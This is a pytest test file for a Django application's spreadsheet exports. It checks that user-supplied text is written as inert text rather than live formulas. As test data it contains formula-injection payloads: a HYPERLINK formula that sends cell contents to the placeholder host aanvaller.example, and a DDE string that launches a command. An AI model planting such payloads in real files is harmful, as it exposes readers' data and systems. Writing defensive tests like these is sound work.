# SPDX-License-Identifier: EUPL-1.2
# SPDX-FileCopyrightText: 2026 Kompas contributors
"""Text that others typed never becomes a live formula in an XLSX or CSV file Kompas writes.

The attack: a measure name or plan text "=HYPERLINK(…)" (or starting with +, -, @, a tab or a
carriage return) opened a link or ran a command in the reader's spreadsheet. Each export is read
back the way a spreadsheet program would: XLSX with openpyxl (a formula has data type "f"), CSV
with the csv module (a leading apostrophe makes the cell text).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from django.contrib.sessions.models import Session
from django.core.management import call_command
from django.db import transaction
from django.test import Client
from django.urls import reverse
from django_scopes import scope, scopes_disabled
from openpyxl import load_workbook
from openpyxl.cell.cell import Cell, MergedCell

from kompas.accounts import audit
from kompas.accounts.models import Organisation, User
from kompas.accounts.roles import Role
from kompas.alerts.early_warning_csv import write_detection
from kompas.alerts.series import Detection, Panel, write_long_csv
from kompas.areas import load
from kompas.formulas import inert
from kompas.indicators import export as indicator_export
from kompas.observations.models import Measure
from kompas.policy.export_files import plan_xlsx
from kompas.policy.models import Goal, Plan
from kompas.presentation import xlsx
from tests.observations.test_write import _write

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("http://aanvaller.example/?d="&A1;"Klik hier")'
# One text per character OWASP names; each would start a formula or DDE call.
# (XML reads a carriage return back as a line feed, so it is checked in CSV only.)
LEADERS = [ATTACK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1+1"]


def _xlsx_cells(body: bytes) -> list[Cell | MergedCell]:
    book = load_workbook(io.BytesIO(body))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_no_formulas(body: bytes, texts: list[str]) -> None:
    cells = _xlsx_cells(body)
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    found = {cell.value: cell for cell in cells if cell.value in texts}
    assert sorted(found) == sorted(texts)  # the reader sees the text unchanged …
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in found.values())  # … as text


def _csv_cells(text: str, delimiter: str = ",") -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


# (value, written to CSV as)
CASES = [
    (ATTACK, "'" + ATTACK),  # a formula
    ("+31 6 12345678", "'+31 6 12345678"),  # a plus starts a formula
    ("-5 % doel", "'-5 % doel"),  # a minus too
    ("@SUM(A1)", "'@SUM(A1)"),  # Lotus-style function
    ("\t=1", "'\t=1"),  # tab and carriage return before a formula
    ("\r=1", "'\r=1"),
    ("Woninginbraken", "Woninginbraken"),  # ordinary text unchanged
    ("a=b", "a=b"),  # only the first character counts
    (-3, -3),  # a negative number is a number
    (-2.5, -2.5),
    (None, None),
]


@pytest.mark.parametrize(("value", "expected"), CASES)
def test_inert_marks_only_formula_leading_text(value: object, expected: object) -> None:
    assert inert(value) == expected


def test_workbook_keeps_formula_text_as_text_and_numbers_as_numbers() -> None:
    table = xlsx.Table("Blad", ("naam", "waarde"), [(text, -3) for text in LEADERS])
    body = xlsx.workbook([table], [xlsx.Source(ATTACK, "CC-BY 4.0", None, "2024")])
    _assert_no_formulas(body, LEADERS)
    sheet = load_workbook(io.BytesIO(body))["Blad"]
    numbers = {(cell.value, cell.data_type) for (cell,) in sheet.iter_rows(min_row=2, min_col=2, max_col=2)}
    assert numbers == {(-3, "n")}


@pytest.fixture
def poisoned_measure(org_a: Organisation) -> None:
    """Counts of a measure whose name, from an import description, is a formula; one value negative."""
    load.create_areas({"BU01640100": 2014}, names={})
    _write(org_a, [("woninginbraken", "BU01640100", dt.date(2024, 1, 1), "month", -3.0, None, None)])
    with scopes_disabled():
        Measure.objects.filter(code="woninginbraken").update(name=ATTACK, source=ATTACK)


def test_observation_export_csv_and_xlsx(poisoned_measure: None, tmp_path: Path) -> None:
    out = io.StringIO()
    call_command("observations_export", stdout=out, stderr=io.StringIO())
    [header, row] = list(csv.reader(io.StringIO(out.getvalue())))
    assert row[header.index("measure_name")] == "'" + ATTACK
    assert row[header.index("value")] == "-3"
    path = tmp_path / "w.xlsx"
    call_command("observations_export", "--format", "xlsx", "--output", str(path), stderr=io.StringIO())
    _assert_no_formulas(path.read_bytes(), [ATTACK, f"{ATTACK} (woninginbraken)"])
    sheet = load_workbook(path)["Waarnemingen"]
    assert [cell.value for cell in sheet[2]][6] == -3


def test_plan_xlsx(plan: Plan, org_a: Organisation) -> None:
    with scope(organisation=org_a.pk):
        goal = Goal.objects.filter(theme__plan=plan).order_by("pk").first()
        assert goal is not None
        Goal.objects.filter(pk=goal.pk).update(text=ATTACK)
        _assert_no_formulas(plan_xlsx(plan), [ATTACK])


def test_indicator_export_csv_and_xlsx() -> None:
    row = dict.fromkeys(indicator_export.COLUMNS)
    row.update(indicator_code="overlast", area_code="GM0164", flag=ATTACK, value=-1.5)
    frame = pd.DataFrame([row], columns=indicator_export.COLUMNS)
    [header, line] = list(csv.reader(io.StringIO(indicator_export.csv_bytes(frame).decode())))
    assert line[header.index("flag")] == "'" + ATTACK
    assert line[header.index("value")] == "-1.5"
    _assert_no_formulas(indicator_export.xlsx_bytes(frame), [ATTACK])


def test_audit_export_csv(
    client: Client,
    org_a: Organisation,
    make_user: Callable[..., User],
    login: Callable[[Client, User], Client],
) -> None:
    user = make_user(Role.BEHEERDER, org_a)
    login(client, user)
    with transaction.atomic():
        # A target whose key is text chosen by someone else (a session key stands in for any).
        audit.record("accounts.login.succeeded", actor=user, target=Session(session_key=ATTACK))
    response = client.get(reverse("accounts:audit_export"))
    text = response.content.decode("utf-8-sig")
    assert "'" + ATTACK in _csv_cells(text, delimiter=";")
    assert ATTACK not in _csv_cells(text, delimiter=";")


def test_alert_series_and_detection_csv(tmp_path: Path) -> None:
    periods = np.array(["2024-01-01", "2024-02-01"], dtype="datetime64[D]")
    panel = Panel((ATTACK,), periods, np.array([[4.0, 6.0]]), 12)
    write_long_csv(tmp_path / "reeksen.csv", panel)
    assert _csv_cells((tmp_path / "reeksen.csv").read_text())[3] == "'" + ATTACK
    evaluated = np.array([[False, True]])
    detection = Detection(
        observed=panel.counts,
        expected=np.array([[np.nan, 5.0]]),
        upperbound=np.array([[np.nan, 9.0]]),
        alarm=evaluated & False,
        score=np.array([[np.nan, 0.2]]),
        evaluated=evaluated,
    )
    write_detection(tmp_path / "signalen.csv", panel, detection)
    rows = list(csv.reader(io.StringIO((tmp_path / "signalen.csv").read_text())))
    assert rows[1][0] == "'" + ATTACK
